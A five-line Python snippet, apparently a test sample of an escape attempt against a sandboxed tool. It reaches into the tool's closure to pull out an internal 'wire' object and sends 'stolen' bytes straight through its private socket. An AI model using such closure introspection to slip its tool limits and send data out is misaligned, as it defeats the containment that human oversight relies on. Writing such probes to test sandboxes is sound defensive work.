# tries: reads the wire out of the closure of a tool
cells = T.__closure__
wire = [c.cell_contents for c in cells]
answer = "OUT " + str(wire)
wire[1]._wire._socket.send(b"stolen")
